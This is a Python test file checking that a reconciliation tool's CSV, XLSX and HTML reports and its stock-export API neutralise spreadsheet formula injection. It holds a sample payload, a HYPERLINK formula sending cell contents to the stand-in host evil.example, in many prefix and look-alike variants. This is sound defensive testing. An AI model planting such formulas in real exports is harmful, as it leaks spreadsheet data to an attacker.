"""CSV/XLSX formula injection is neutralised in every report writer: each formula sign (``=``,
``+``, ``-``, ``@``, full-width ``＝ ＋ － ＠``, small and minus-sign look-alikes), first or after
leading whitespace (space, ideographic space, no-break space), and a tab or carriage return first,
goes into the outside text of a reconciliation (CSV, XLSX, HTML) and of the API's stock CSV, and no
cell of any output may start a formula. Quantities, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from conveyor.reconcile.compare import Comparison
from conveyor.reconcile.reports import (
    FORMULA_SIGNS,
    needs_neutralising,
    report_from_result,
    write_reports,
)
from conveyor.reconcile.sources import Chunk
from tests.conveyor.api.conftest import auth, output

PREFIXES = ["", " ", "   ", "\u3000", "\u00a0"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULAS = [f"{prefix}{sign}{PAYLOAD}" for sign in FORMULA_SIGNS for prefix in PREFIXES]
CONTROL_FIRST = [f"\t={PAYLOAD}", f"\r={PAYLOAD}", f"\t{PAYLOAD}", f"\r\n@{PAYLOAD}"]
"""Control characters no canonical code may hold, but a snapshot description may."""


def _report(texts: list[str]) -> object:
    comparison = Comparison(["erp", "wms"])
    rows = [(f"M{i}", text, text, "-1", "KG", text) for i, text in enumerate(texts)]
    comparison.add("erp", Chunk(rows))
    return report_from_result(
        comparison.result(),
        run_id="formula",
        as_of=datetime(2026, 11, 21, tzinfo=UTC),
        inputs=[],
        generated_at=datetime.now(UTC),
        runner=FORMULAS[0],
    )


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run as formulas (an exact number, negative too, is a number)."""
    return [c for c in cells if needs_neutralising(c) and not re.fullmatch(r"-?[0-9.]+", c)]


def test_every_variant_is_neutralised_in_the_reconciliation_reports(tmp_path: Path) -> None:
    texts = FORMULAS + CONTROL_FIRST
    write_reports(_report(texts), tmp_path)  # type: ignore[arg-type]
    with (tmp_path / "report.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = _csv_cells(fh.read())
    looked = [c for c in cells if c.lstrip("'") in texts]
    assert len(looked) >= 3 * len(texts)  # lot, location and description of every line
    assert not _formulas(cells)
    book = load_workbook(tmp_path / "report.xlsx")
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and _formulas([cell.value]):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen += 1
    assert seen >= 3 * len(texts)
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert PAYLOAD not in html  # the quotes and ampersand are escaped
    assert "&amp;A1" in html


def test_every_variant_is_neutralised_in_the_api_stock_csv(
    client: TestClient, tokens: dict[str, str]
) -> None:
    messages = [output(f"F-{i}/1", lot=text) for i, text in enumerate(FORMULAS)]
    for message in messages:
        message["payload"]["lot"] = message.pop("lot")
    for start in range(0, len(messages), 40):  # the test app takes 50 messages a body
        chunk = messages[start : start + 40]
        posted = client.post("/v1/messages", json=chunk, headers=auth(tokens["ingest"]))
        assert posted.status_code == 202, posted.text
    answer = client.get("/v1/stock", params={"format": "csv"}, headers=auth(tokens["read"]))
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == len(FORMULAS)
    assert {row["lot"].removeprefix("'") for row in rows} == set(FORMULAS)
    assert not _formulas(_csv_cells(answer.text))
    assert {row["quantity"] for row in rows} == {"48"}


@pytest.mark.parametrize("quantity", ["-5", "-0.5", "12"])
def test_quantities_stay_numbers_in_the_api_stock_csv(
    client: TestClient, tokens: dict[str, str], quantity: str
) -> None:
    message = output("Q-1/1")
    message["type"] = "stock_adjustment"
    message["payload"] = {
        "material": "RM-1",
        "location": "1000/RM",
        "quantity": quantity,
        "uom": "KG",
        "reason": "count_difference",
    }
    posted = client.post("/v1/messages", json=message, headers=auth(tokens["ingest"]))
    assert posted.status_code == 202, posted.text
    answer = client.get("/v1/stock", params={"format": "csv"}, headers=auth(tokens["read"]))
    (row,) = list(csv.DictReader(io.StringIO(answer.text)))
    assert row["quantity"] == quantity
